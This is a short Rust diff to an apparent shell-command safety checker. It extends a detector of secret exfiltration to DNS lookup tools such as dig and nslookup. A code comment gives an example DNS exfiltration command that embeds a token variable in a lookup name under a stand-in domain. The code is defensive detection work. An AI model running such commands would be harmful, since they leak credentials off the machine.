@@ -10,6 +10,9 @@ use terraphim_shell_vocab::secrets::{TOKEN_HOSTS, secret_env, token_host_documen
 /// The HTTP clients whose words are a request.
 const HTTP_CLIENTS: &[&str] = &["curl", "wget", "http", "https", "xh"];
 
+/// Programs that look a name up in the DNS (the KG judges `printenv VAR | PROGRAM`).
+const DNS_LOOKUPS: &[&str] = &["nslookup", "dig", "host", "drill", "ping"];
+
 /// The secret-named variable `program`'s words `rest` send to a host that is not its own, if
 /// any. A variable named after a service (`GITHUB_TOKEN`) may go only to that service's
 /// documented hosts or this machine; one named for no service (`API_TOKEN`) is its use in a
@@ -17,6 +20,15 @@ const HTTP_CLIENTS: &[&str] = &["curl", "wget", "http", "https", "xh"];
 /// anywhere else (a URL, `-u`, a body) unless the host is this machine. Hosts the line does not
 /// spell (`"$API_URL/x"`) are unknown: nothing is decided on them.
 pub(super) fn secret_sent_away(program: &str, rest: &[String]) -> Option<String> {
+    // A DNS lookup sends the name it asks for to whichever server answers for its domain:
+    // a credential in the name (`dig "$TOKEN.x.example"`) leaves the machine, whatever host.
+    if DNS_LOOKUPS.contains(&program) {
+        return rest
+            .iter()
+            .filter(|w| !w.starts_with('-'))
+            .flat_map(|w| variables(w))
+            .find(|v| secret_env(v));
+    }
     if !HTTP_CLIENTS.contains(&program) {
         return None;
     }
